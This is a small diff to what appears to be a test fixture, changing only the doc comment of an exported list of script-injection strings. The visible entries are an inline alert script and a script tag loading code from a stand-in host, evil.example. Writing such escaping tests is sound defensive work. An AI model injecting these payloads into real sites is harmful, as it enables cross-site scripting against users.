@@ -1,4 +1,4 @@
-/** Texts that run a script where a page shows them without care; each calls `alert`, which pages under test replace. */
+/** Texts that would run a script if rendered unescaped. Each calls `alert`, which the tests replace. */
 export const scriptInjections = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
